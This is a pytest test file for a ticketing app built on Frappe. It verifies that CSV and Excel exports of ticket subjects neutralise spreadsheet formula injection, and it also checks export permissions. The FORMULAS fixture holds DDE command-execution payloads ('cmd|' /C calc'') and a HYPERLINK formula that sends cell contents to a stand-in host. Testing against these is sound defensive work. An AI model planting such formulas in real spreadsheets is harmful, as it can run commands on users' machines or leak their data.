"""A customer's words in a manager's spreadsheet are words, never formulas."""

import csv
from io import BytesIO, StringIO

import frappe
import openpyxl
import pytest

from oki_tickets.services import spreadsheets
from tests import factories

FORMULAS = (
	"=cmd|' /C calc'!A0",
	'=HYPERLINK("https://x.example?"&A1,"x")',
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
)
PLAIN = ("Dead line", "-5", "+48 22 100 20 30", 'He said "=1+1" and, well', "a\n=b")


@pytest.fixture(scope="module")
def subjects(world) -> dict[str, str]:
	"""Tickets by their hostile subjects."""
	made = {}
	for formula in FORMULAS:
		name = factories.create_ticket(world.users["owner"], subject=formula).name
		frappe.db.set_value("Ticket", name, "support_line", "L1")
		made[formula] = name
	frappe.db.commit()
	return made


def export(session, names: list[str], kind: str, **more):
	answer = session.call(
		"frappe.desk.reportview.export_query",
		doctype="Ticket",
		fields=["`tabTicket`.`name`", "`tabTicket`.`subject`"],
		filters=[["Ticket", "name", "in", names]],
		file_format_type=kind,
		title="Ticket",
		**more,
	)
	assert answer.ok, answer
	return answer.content


@pytest.mark.parametrize("quoting", [csv.QUOTE_NONNUMERIC, csv.QUOTE_ALL, csv.QUOTE_MINIMAL])
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_a_csv_of_tickets_calculates_nothing(world, subjects, quoting, delimiter):
	content = export(
		world.session("head"),
		list(subjects.values()),
		"CSV",
		csv_delimiter=delimiter,
		csv_quoting=str(quoting),
	)
	cells = [cell for row in csv.reader(StringIO(content.decode()), delimiter=delimiter) for cell in row]
	assert {f"'{formula}" for formula in FORMULAS} <= set(cells)
	assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_a_workbook_of_tickets_calculates_nothing(world, subjects):
	content = export(world.session("head"), list(subjects.values()), "Excel")
	cells = [cell for row in openpyxl.load_workbook(BytesIO(content)).active.iter_rows() for cell in row]
	assert set(FORMULAS) <= {cell.value for cell in cells}
	assert not [cell for cell in cells if cell.data_type == "f"]


def test_what_people_read_stays_as_it_was_written(world, subjects):
	subject = frappe.db.get_value("Ticket", subjects[FORMULAS[0]], "subject")
	assert subject == FORMULAS[0]


@pytest.mark.parametrize("quoting", [csv.QUOTE_NONNUMERIC, csv.QUOTE_ALL, csv.QUOTE_MINIMAL])
def test_plain_words_and_numbers_pass_unchanged(quoting):
	out = StringIO()
	csv.writer(out, quoting=quoting).writerows([[1, 2.5, *PLAIN], [-3, "", *PLAIN[::-1]]])
	content = out.getvalue().encode()
	assert spreadsheets.defuse_csv(content, ",", quoting) == content


@pytest.mark.parametrize("person", ["owner", "staff", "agent"])
def test_export_asks_for_the_right_to_export(world, person):
	answer = world.session(person).call(
		"frappe.desk.reportview.export_query",
		doctype="Ticket",
		fields=["name"],
		filters=[],
		file_format_type="CSV",
		title="x",
	)
	assert answer.refused, answer


def test_exports_of_other_doctypes_are_frappes_own(world):
	todo = frappe.get_doc(doctype="ToDo", description="=1+1").insert()
	frappe.db.commit()
	answer = world.session("admin").call(
		"frappe.desk.reportview.export_query",
		doctype="ToDo",
		fields=["`tabToDo`.`description`"],
		filters=[["ToDo", "name", "=", todo.name]],
		file_format_type="CSV",
		title="ToDo",
	)
	frappe.delete_doc("ToDo", todo.name, force=True)
	frappe.db.commit()
	assert b"1+1" in answer.content and b"'=" not in answer.content


def test_counting_shows_each_person_only_what_the_person_sees(world):
	found = {
		person: world.session(person).call(
			"frappe.client.get_count", doctype="Ticket Message", filters={"ticket": world.ticket}
		)
		for person in ("agent", "head", "other_line", "owner")
	}
	number = frappe.db.count("Ticket Message", {"ticket": world.ticket})
	assert (found["agent"].data, found["head"].data, found["other_line"].data) == (number, number, 0)
	assert found["owner"].refused
